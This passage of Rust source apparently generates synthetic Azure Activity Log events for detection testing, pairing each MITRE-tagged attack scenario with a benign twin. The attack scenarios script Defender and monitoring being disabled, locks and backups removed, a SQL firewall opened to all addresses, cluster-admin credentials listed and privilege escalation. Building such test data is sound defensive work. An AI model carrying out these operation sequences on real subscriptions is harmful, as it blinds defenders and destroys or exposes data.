        "Microsoft.Authorization/policyExemptions/write",
        "PUT",
        Some(body),
    );
}

fn defender(s: &mut Script<'_>) {
    let scope = s.sub_scope();
    for plan in ["VirtualMachines", "StorageAccounts", "KeyVaults"] {
        let id = format!("{scope}/providers/Microsoft.Security/pricings/{plan}");
        s.op_at(
            &id,
            "global",
            "Microsoft.Security/pricings/write",
            "PUT",
            Some(json!({"properties": {"pricingTier": "Free"}})),
        );
    }
    let ap = format!("{scope}/providers/Microsoft.Security/autoProvisioningSettings/default");
    s.op_at(
        &ap,
        "global",
        "Microsoft.Security/autoProvisioningSettings/write",
        "PUT",
        Some(json!({"properties": {"autoProvision": "Off"}})),
    );
    for alert in ["Storage.Blob_AnonymousAccessAnomaly", "KV_ListGetAnomaly"] {
        let body = json!({"properties": {"alertType": alert, "state": "Enabled", "reason": "Other", "comment": "noise",
            "expirationDateUtc": null}});
        let id = format!(
            "{scope}/providers/Microsoft.Security/alertsSuppressionRules/dismiss-{}",
            lower(&mut s.rng, 5)
        );
        s.op_at(
            &id,
            "global",
            "Microsoft.Security/alertsSuppressionRules/write",
            "PUT",
            Some(body),
        );
    }
}

fn defender_twin(s: &mut Script<'_>) {
    let scope = s.sub_scope();
    let id = format!("{scope}/providers/Microsoft.Security/pricings/Containers");
    s.op_at(
        &id,
        "global",
        "Microsoft.Security/pricings/write",
        "PUT",
        Some(json!({"properties": {"pricingTier": "Standard"}})),
    );
    let body = json!({"properties": {"alertType": "VM_PortScanning", "state": "Enabled", "reason": "FalsePositive",
        "comment": "Authorised quarterly scan by the vulnerability scanner, ticket SEC-2291",
        "expirationDateUtc": iso(s.t + 90 * 86_400),
        "suppressionAlertsScope": {"allOf": [{"field": "entities.ip.address", "in": [s.caller.ip.clone()]}]}}});
    let id =
        format!("{scope}/providers/Microsoft.Security/alertsSuppressionRules/authorised-vuln-scan");
    s.op_at(
        &id,
        "global",
        "Microsoft.Security/alertsSuppressionRules/write",
        "PUT",
        Some(body),
    );
}

fn monitoring(s: &mut Script<'_>) {
    s.op(
        3,
        &format!("microsoft.insights/actionGroups/ag-{ORG}-oncall"),
        "microsoft.insights/actionGroups/delete",
        "DELETE",
        None,
    );
    s.op(
        3,
        &format!("Microsoft.OperationalInsights/workspaces/log-{ORG}-security"),
        "Microsoft.OperationalInsights/workspaces/delete",
        "DELETE",
        None,
    );
    s.op(
        3,
        "microsoft.insights/dataCollectionRules/dcr-security-events",
        "microsoft.insights/dataCollectionRules/delete",
        "DELETE",
        None,
    );
}

fn monitoring_twin(s: &mut Script<'_>) {
    let ag = json!({"location": "Global", "properties": {"groupShortName": "oncall", "enabled": true,
        "emailReceivers": [{"name": "sre", "emailAddress": format!("sre@{ORG}.com"), "useCommonAlertSchema": true}]}});
    s.op(
        3,
        &format!("microsoft.insights/actionGroups/ag-{ORG}-oncall"),
        "microsoft.insights/actionGroups/write",
        "PUT",
        Some(ag),
    );
    let ws = json!({"location": s.loc(3), "properties": {"retentionInDays": 180, "sku": {"name": "PerGB2018"}}});
    s.op(
        3,
        &format!("Microsoft.OperationalInsights/workspaces/log-{ORG}-security"),
        "Microsoft.OperationalInsights/workspaces/write",
        "PUT",
        Some(ws),
    );
}

fn locks(s: &mut Script<'_>) {
    let rg = s.rg_scope(1);
    s.op_at(
        &format!("{rg}/providers/Microsoft.Authorization/locks/do-not-delete"),
        "global",
        "Microsoft.Authorization/locks/delete",
        "DELETE",
        None,
    );
    let sub = s.sub_scope();
    s.op_at(
        &format!("{sub}/providers/Microsoft.Authorization/locks/subscription-cannot-delete"),
        "global",
        "Microsoft.Authorization/locks/delete",
        "DELETE",
        None,
    );
    let loc = s.loc(1);
    s.op_at(
        &rg,
        loc,
        "Microsoft.Resources/subscriptions/resourceGroups/delete",
        "DELETE",
        None,
    );
}

fn locks_twin(s: &mut Script<'_>) {
    let rg = s.rg_scope(0);
    let body = json!({"properties": {"level": "CanNotDelete", "notes": "Managed by Terraform"}});
    s.op_at(
        &format!("{rg}/providers/Microsoft.Authorization/locks/do-not-delete"),
        "global",
        "Microsoft.Authorization/locks/write",
        "PUT",
        Some(body),
    );
    let pr = s.rng.u32(1200..1900);
    let tmp = format!("{}/resourceGroups/rg-dev-pr{pr}", s.sub_scope());
    let loc = s.loc(4);
    s.op_at(
        &tmp,
        loc,
        "Microsoft.Resources/subscriptions/resourceGroups/delete",
        "DELETE",
        None,
    );
}

fn aks_admin(s: &mut Script<'_>) {
    let aks = "Microsoft.ContainerService/managedClusters/aks-prod";
    s.op(
        2,
        aks,
        "Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action",
        "POST",
        None,
    );
    s.op(
        2,
        &format!("{aks}/accessProfiles/clusterAdmin"),
        "Microsoft.ContainerService/managedClusters/accessProfiles/listCredential/action",
        "POST",
        None,
    );
}

fn aks_admin_twin(s: &mut Script<'_>) {
    let aks = "Microsoft.ContainerService/managedClusters/aks-prod";
    s.op(
        2,
        aks,
        "Microsoft.ContainerService/managedClusters/listClusterUserCredential/action",
        "POST",
        None,
    );
}

fn sql_server() -> String {
    format!("Microsoft.Sql/servers/sql-{ORG}-prod")
}

fn sql_exposed(s: &mut Script<'_>) {
    let srv = sql_server();
    let all =
        json!({"properties": {"startIpAddress": "0.0.0.0", "endIpAddress": "255.255.255.255"}});
    s.op(
        1,
        &format!("{srv}/firewallRules/AllowAll"),
        "Microsoft.Sql/servers/firewallRules/write",
        "PUT",
        Some(all),
    );
    s.op(
        1,
        &format!("{srv}/auditingSettings/default"),
        "Microsoft.Sql/servers/auditingSettings/write",
        "PUT",
        Some(json!({"properties": {"state": "Disabled"}})),
    );
}

fn sql_twin(s: &mut Script<'_>) {
    let srv = sql_server();
    let range = s.caller_range();
    let net = range.trim_end_matches(".0/24").to_string();
    let office = json!({"properties": {"startIpAddress": format!("{net}.0"), "endIpAddress": format!("{net}.255")}});
    s.op(
        1,
        &format!("{srv}/firewallRules/office"),
        "Microsoft.Sql/servers/firewallRules/write",
        "PUT",
        Some(office),
    );
    let on = json!({"properties": {"state": "Enabled", "isAzureMonitorTargetEnabled": true, "retentionDays": 90}});
    s.op(
        1,
        &format!("{srv}/auditingSettings/default"),
        "Microsoft.Sql/servers/auditingSettings/write",
        "PUT",
        Some(on),
    );
}

fn protected_item(s: &Script<'_>, vm_i: usize) -> (String, String) {
    let (g, vm) = s.sub().vms[vm_i].clone();
    let rg = &s.sub().groups[g].0;
    let vault = format!("Microsoft.RecoveryServices/vaults/rsv-{ORG}-prod");
    let item = format!(
        "{vault}/backupFabrics/Azure/protectionContainers/IaasVMContainer;iaasvmcontainerv2;{rg};{vm}/protectedItems/VM;iaasvmcontainerv2;{rg};{vm}"
    );
    (
        item,
        s.id(g, &format!("Microsoft.Compute/virtualMachines/{vm}")),
    )
}

fn backup_stopped(s: &mut Script<'_>) {
    let vault = format!("Microsoft.RecoveryServices/vaults/rsv-{ORG}-prod");
    let off = json!({"properties": {"softDeleteFeatureState": "Disabled", "enhancedSecurityState": "Disabled"}});
    s.op(
        3,
        &format!("{vault}/backupconfig/vaultconfig"),
        "Microsoft.RecoveryServices/vaults/backupconfig/write",
        "PUT",
        Some(off),
    );
    let (item, vm) = protected_item(s, 0);
    let stop = json!({"properties": {"protectedItemType": "Microsoft.Compute/virtualMachines", "sourceResourceId": vm,
        "policyId": "", "protectionState": "ProtectionStopped"}});
    s.op(
        3,
        &item,
        "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/write",
        "PUT",
        Some(stop),
    );
    let (item, _) = protected_item(s, 1);
    s.op(3, &item, "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/delete", "DELETE", None);
}

fn backup_twin(s: &mut Script<'_>) {
    let vault = s.id(
        3,
        &format!("Microsoft.RecoveryServices/vaults/rsv-{ORG}-prod"),
    );
    let (item, vm) = protected_item(s, 2);
    let on = json!({"properties": {"protectedItemType": "Microsoft.Compute/virtualMachines", "sourceResourceId": vm,
        "policyId": format!("{vault}/backupPolicies/DefaultPolicy")}});
    s.op(
        3,
        &item,
        "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/write",
        "PUT",
        Some(on),
    );
}

fn privilege(s: &mut Script<'_>) {
    s.op_at(
        "/providers/Microsoft.Authorization",
        "global",
        "Microsoft.Authorization/elevateAccess/action",
        "POST",
        None,
    );
    let scope = s.sub_scope();
    role_assignment(s, &scope, USER_ACCESS_ADMIN, "User");
    role_assignment(s, &scope, CONTRIBUTOR, "ServicePrincipal");
    let rd = s.uuid();
    let body = json!({"properties": {"roleName": "Ops Support", "description": "", "type": "CustomRole",
        "permissions": [{"actions": ["*"], "notActions": [], "dataActions": [], "notDataActions": []}],
        "assignableScopes": [scope]}});
    let id = role_definition(&s.sub().id, &rd);
    s.op_at(
        &id,
        "global",
        "Microsoft.Authorization/roleDefinitions/write",
        "PUT",
        Some(body),
    );
}

fn privilege_twin(s: &mut Script<'_>) {
    let rg = s.rg_scope(0);
    role_assignment(s, &rg, READER, "User");
    let rd = s.uuid();
    let body = json!({"properties": {"roleName": "VM Operator (web)", "description": "Start and restart the web VMs",
        "type": "CustomRole", "permissions": [{"actions": ["Microsoft.Compute/virtualMachines/read",
            "Microsoft.Compute/virtualMachines/start/action", "Microsoft.Compute/virtualMachines/restart/action",
            "Microsoft.Compute/virtualMachines/deallocate/action"], "notActions": [], "dataActions": [], "notDataActions": []}],
        "assignableScopes": [rg]}});
    let id = role_definition(&s.sub().id, &rd);
    s.op_at(
        &id,
        "global",
        "Microsoft.Authorization/roleDefinitions/write",
        "PUT",
        Some(body),
    );
}

const NEW: &[Family] = &[
    Family {
        name: "azure_keyvault_backup_and_purge",
        technique: "T1485",
        description: "Secrets and a key backed up (copied out), then secrets, key and certificate deleted and purged, the vault deleted and purged.",
        families: &["keyvault.delete_purge", "keyvault.backup"],
        attack: keyvault_purge,
        twin: Twin { actor: Actor::Admin, description: "An administrator deletes an obsolete secret (soft delete kept, nothing purged) and sets a new version of another.", steps: keyvault_purge_twin },
    },
    Family {
        name: "azure_storage_made_public",
        technique: "T1530",
        description: "Storage account opened: public blob access and network, shared-key access re-enabled, HTTPS-only off, a container made public, a long account SAS and a user delegation key.",
        families: &["storage.public_access", "storage.shared_key_enabled", "storage.https_only_disabled", "storage.sas_user_delegation_key"],
        attack: storage_public,
        twin: Twin { actor: Actor::App(0), description: "The deploy pipeline hardens the storage account, keeps a container private and makes a one-hour read-only service SAS.", steps: storage_public_twin },
    },
    Family {
        name: "azure_storage_recovery_disabled",
        technique: "T1490",
        description: "Blob soft delete, container soft delete and versioning disabled, the immutability policy of the backups container deleted, both keys regenerated.",
        families: &["storage.soft_delete_versioning_disabled", "storage.immutability_policy_deleted", "storage.keys_regenerated"],
        attack: storage_recovery_off,
        twin: Twin { actor: Actor::App(1), description: "The Terraform pipeline lengthens soft delete, enables versioning and sets the immutability policy.", steps: storage_recovery_twin },
    },
    Family {
        name: "azure_vm_run_command_and_custom_script",
        technique: "T1651",
        description: "Run Command with a downloaded shell script, then CustomScript extensions (Linux and Windows) fetching payloads from an outside host.",
        families: &["compute.run_command", "compute.custom_script_extension"],
        attack: run_command,
        twin: Twin { actor: Actor::App(0), description: "The deploy pipeline installs the Azure Monitor agent extension on two VMs.", steps: run_command_twin },
    },
    Family {
        name: "azure_disk_snapshot_export",
        technique: "T1537",
        description: "A full snapshot of a VM's OS disk, then SAS export (beginGetAccess) of the snapshot and of a data disk.",
        families: &["compute.disk_snapshot_export"],
        attack: disk_export,
        twin: Twin { actor: Actor::App(3), description: "The backup automation takes its nightly incremental snapshot.", steps: disk_export_twin },
    },
    Family {
        name: "azure_vm_disk_snapshot_destruction",
        technique: "T1485",
        description: "Production VMs deleted with their OS disks, snapshots and restore points.",
        families: &["compute.vm_disk_snapshot_deleted"],
        attack: destruction,
        twin: Twin { actor: Actor::App(1), description: "The Terraform pipeline tears down a pull-request VM and its disk in the dev sandbox.", steps: destruction_twin },
    },
    Family {
        name: "azure_network_defenses_deleted",
        technique: "T1562.007",
        description: "Azure Firewall, its firewall policy, the Network Watcher and a production VNet deleted.",
        families: &["network.firewall_vnet_watcher_deleted"],
        attack: network_deleted,
        twin: Twin { actor: Actor::App(1), description: "The Terraform pipeline deletes a pull-request VNet in the dev sandbox and adds an internal firewall rule collection.", steps: network_deleted_twin },
    },
    Family {
        name: "azure_vnet_peering_and_packet_capture",
        technique: "T1040",
        description: "The hub VNet peered to a VNet of a subscription outside the organisation, then a 5-hour full packet capture of a data VM stored in that outside subscription.",
        families: &["network.vnet_peering_cross_tenant", "network.packet_capture"],
        attack: peering_capture,
        twin: Twin { actor: Actor::Admin, description: "A network administrator peers the hub to the organisation's own web VNet and takes a 5-minute HTTPS capture into the organisation's log storage.", steps: peering_capture_twin },
    },
    Family {
        name: "azure_automation_runbook_webhook",
        technique: "T1546",
        description: "A new runbook created, its content uploaded, published, given a ten-year webhook and started.",
        families: &["automation.runbook_webhook"],
        attack: automation,
        twin: Twin { actor: Actor::Admin, description: "The automation team updates and publishes its existing nightly runbook.", steps: automation_twin },
    },
    Family {
        name: "azure_policy_assignment_deleted_and_exemption",
        technique: "T1562.001",
        description: "The deny-public-storage policy assignment deleted and a subscription-wide, open-ended waiver from the security benchmark created.",
        families: &["policy.assignment_deleted_exemption"],
        attack: policy,
        twin: Twin { actor: Actor::App(1), description: "The governance pipeline assigns a tagging policy to a resource group and a 30-day mitigated exemption for one web app.", steps: policy_twin },
    },
    Family {
        name: "azure_defender_disabled",
        technique: "T1562.001",
        description: "Defender for Cloud plans downgraded to Free, auto-provisioning turned off and alert suppression rules for all entities created.",
        families: &["defender.plan_downgraded", "defender.auto_provisioning_off", "defender.alert_suppression_rule"],
        attack: defender,
        twin: Twin { actor: Actor::Admin, description: "The security administrator enables the Containers plan and suppresses port-scan alerts from the authorised scanner only, for 90 days.", steps: defender_twin },
    },
    Family {
        name: "azure_monitoring_deleted",
        technique: "T1562.008",
        description: "The on-call action group, the security Log Analytics workspace and a data collection rule deleted.",
        families: &["monitor.action_group_deleted", "monitor.log_analytics_workspace_deleted"],
        attack: monitoring,
        twin: Twin { actor: Actor::Admin, description: "The monitoring administrator updates the action group's receivers and the workspace retention.", steps: monitoring_twin },
    },
    Family {
        name: "azure_locks_deleted_and_resource_group_deleted",
        technique: "T1485",
        description: "The resource-group and subscription delete locks removed, then the data resource group deleted.",
        families: &["lock.deleted", "resources.resource_group_deleted"],
        attack: locks,
        twin: Twin { actor: Actor::App(1), description: "The Terraform pipeline sets a delete lock and tears down a pull-request resource group.", steps: locks_twin },
    },
    Family {
        name: "azure_aks_admin_credentials",
        technique: "T1552.007",
        description: "Cluster-admin credentials of the production AKS cluster listed (both APIs).",
        families: &["aks.admin_credentials"],
        attack: aks_admin,
        twin: Twin { actor: Actor::Admin, description: "An engineer gets ordinary (Entra-backed) user credentials for the cluster.", steps: aks_admin_twin },
    },
    Family {
        name: "azure_sql_open_and_auditing_off",
        technique: "T1562.007",
        description: "SQL server firewall opened to 0.0.0.0–255.255.255.255 and server auditing disabled.",
        families: &["sql.firewall_open_to_all", "sql.auditing_disabled"],
        attack: sql_exposed,
        twin: Twin { actor: Actor::Admin, description: "The database administrator allows the office /24 and enables auditing with 90-day retention.", steps: sql_twin },
    },
    Family {
        name: "azure_backup_protection_stopped",
        technique: "T1490",
        description: "Recovery Services soft delete and security features disabled, protection of one VM stopped and another's backup items deleted.",
        families: &["backup.protection_stopped"],
        attack: backup_stopped,
        twin: Twin { actor: Actor::App(3), description: "The backup automation enables protection for a VM with the default policy.", steps: backup_twin },
    },
    Family {
        name: "azure_privilege_escalation",
        technique: "T1098.003",
        description: "elevateAccess by a tenant administrator, User Access Administrator and Contributor assigned at subscription scope, a custom role with `*` actions defined.",
        families: &["authorization.elevate_access", "authorization.privileged_role_subscription", "authorization.custom_role_wildcard"],
        attack: privilege,
        twin: Twin { actor: Actor::Admin, description: "An administrator grants Reader on a resource group and defines a narrow VM-operator role for it.", steps: privilege_twin },
    },
];

/// Number of new family scenarios.
pub(crate) fn count() -> usize {
    NEW.len()
}

/// What the family module adds to the Azure Activity Log.
pub(crate) struct Injected {
    pub ops: Vec<Op>,
    /// The new family scenarios (empty without attacks).
    pub scenarios: Vec<Scenario>,
    /// Twins of the seven original scenarios then of the new ones.
    pub twins: Vec<BenignTwin>,
}

/// Compromised users of the original scenarios (`(k*3+1) % n`); reused by the new ones.
pub(crate) fn attack_users(org: &Org) -> Vec<usize> {
    let n = org.az_users.len();
    let mut v: Vec<usize> = (0..crate::azure::AZURE_SCENARIOS.len())
        .map(|k| (k * 3 + 1) % n)
        .collect();
    let mut seen = Vec::new();
    v.retain(|i| {
        let new = !seen.contains(i);
        seen.push(*i);
        new
    });
    v
}

/// Users who act as routine administrators: never attack victims when there are enough people.
pub(crate) fn admin_users(org: &Org) -> Vec<usize> {
    let victims = attack_users(org);
    let admins: Vec<usize> = (0..org.az_users.len())
        .filter(|i| !victims.contains(i))
        .collect();
    if admins.is_empty() {
        (0..org.az_users.len()).collect()
    } else {
        admins
    }
}

/// Build the family scenarios (when `attack_times` is given) and every twin. Twins start on
/// their day in `twin_days` (midnight UTC plus up to 7 hours): administrators from 09:00 of their
/// office's time, pipelines from 08:00 UTC; never after `limit`.
pub(crate) fn inject(
    org: &Org,
    seed: u64,
    attack_times: Option<&[i64]>,
    twin_days: &[i64],
    limit: i64,
) -> Injected {
    let mut out = Injected {
        ops: Vec::new(),
        scenarios: Vec::new(),
        twins: Vec::new(),
    };
    let n_orig = crate::azure::AZURE_SCENARIOS.len();
    let victims = attack_users(org);
    if let Some(times) = attack_times {
        for (j, f) in NEW.iter().enumerate() {
            let k = n_orig + j;
            let mut rng = rng_for(seed, &[63, k as u64]);
            let ip = format!("198.51.100.{}", rng.u8(2..=254));
            let mut caller = user_caller(org, victims[j % victims.len()], Some(&ip));
            caller.role = "Owner";
            let sub_i = k % org.subs.len();
            let mut s = Script::new(org, sub_i, caller, times[j], rng);
            (f.attack)(&mut s);
            let sc = scenario(org, k, f, &s);
            out.ops.append(&mut s.ops);
            out.scenarios.push(sc);
        }
    }
    let admins = admin_users(org);
    let originals = ORIGINAL_TWINS.iter().enumerate().map(|(k, t)| {
        let (name, _, _) = crate::azure::AZURE_SCENARIOS[k];
        (k, name, ORIGINAL_FAMILIES[k], t)
    });
    let news = NEW
        .iter()
        .enumerate()
        .map(|(j, f)| (n_orig + j, f.name, f.families, &f.twin));
    for (tw_i, (k, name, families, twin)) in originals.chain(news).enumerate() {
        let rng = rng_for(seed, &[64, k as u64]);
        let (caller, hour) = match twin.actor {
            Actor::Admin => {
                let c = user_caller(org, admins[tw_i % admins.len()], None);
                let tz = OFFICE_NETS[office_of(&c.ip)].1;
                (c, 9 - tz)
            }
            Actor::App(a) => (app_caller(org, a), 8),
        };
        let t = (twin_days[tw_i] + hour * 3600).min(limit);
        let sub_i = k % org.subs.len();
        let mut s = Script::new(org, sub_i, caller, t, rng);
        (twin.steps)(&mut s);
        let tw = twin_truth(org, k, name, families, twin.description, &s);
        out.ops.append(&mut s.ops);
        out.twins.push(tw);
    }
    out
}

/// `azure-NN-<name>` as the original scenarios are named.
pub(crate) fn scenario_id(k: usize, name: &str) -> String {
    format!(
        "azure-{:02}-{}",
        k + 1,
        name.trim_start_matches("azure_").replace('_', "-")
    )
}

struct Span {
    start: String,
    end: String,
    event_ids: Vec<String>,
    api_calls: Vec<String>,
    region: String,
}

fn span(s: &Script<'_>) -> Span {
    let mut api_calls: Vec<String> = Vec::new();
    for o in &s.ops {
        if !api_calls.contains(&o.operation) {
            api_calls.push(o.operation.clone());
        }
    }
    let first = s.ops.first().map(|o| o.t).unwrap_or(s.t);
    let last = s.ops.last().map(|o| o.t + 5).unwrap_or(s.t);
    Span {
        start: iso(first),
        end: iso(last),
        event_ids: s.ops.iter().map(|o| o.correlation.clone()).collect(),
        api_calls,
        region: s
            .ops
            .first()
            .map(|o| o.location.clone())
            .unwrap_or_default(),
    }
}

fn scenario(org: &Org, k: usize, f: &Family, s: &Script<'_>) -> Scenario {
    let sp = span(s);
    let id = scenario_id(k, f.name);
    Scenario {
        twin: Some(format!("{id}-benign")),
        id,
        name: f.name.to_string(),
        provider: Provider::Azure,
        technique: f.technique.to_string(),
        description: f.description.to_string(),
        account: org.subs[s.sub_i].id.clone(),
        region: sp.region,
        principal: s.caller.caller.clone(),
        access_key: None,
        source_ip: s.caller.ip.clone(),
        user_agent: String::new(),
        start: sp.start,
        end: sp.end,
        event_count: s.ops.len() * 2,
        event_ids: sp.event_ids,
        api_calls: sp.api_calls,
        log: Some(AzureLog::Activity),
        families: f.families.iter().map(|x| x.to_string()).collect(),
        targets: Vec::new(),
    }
}

fn twin_truth(
    org: &Org,
    k: usize,
    name: &str,
    families: &[&str],
    description: &str,
    s: &Script<'_>,
) -> BenignTwin {
    let sp = span(s);
    let of = scenario_id(k, name);
    BenignTwin {
        id: format!("{of}-benign"),
        name: format!("{name}_benign"),
        twin_of: of,
        provider: Provider::Azure,
        log: AzureLog::Activity,
        families: families.iter().map(|x| x.to_string()).collect(),
        description: description.to_string(),
        account: org.subs[s.sub_i].id.clone(),
        region: sp.region,
        principal: s.caller.caller.clone(),
        source_ip: s.caller.ip.clone(),
        start: sp.start,
        end: sp.end,
        event_count: s.ops.len() * 2,
        event_ids: sp.event_ids,
        api_calls: sp.api_calls,
        targets: Vec::new(),
    }
}
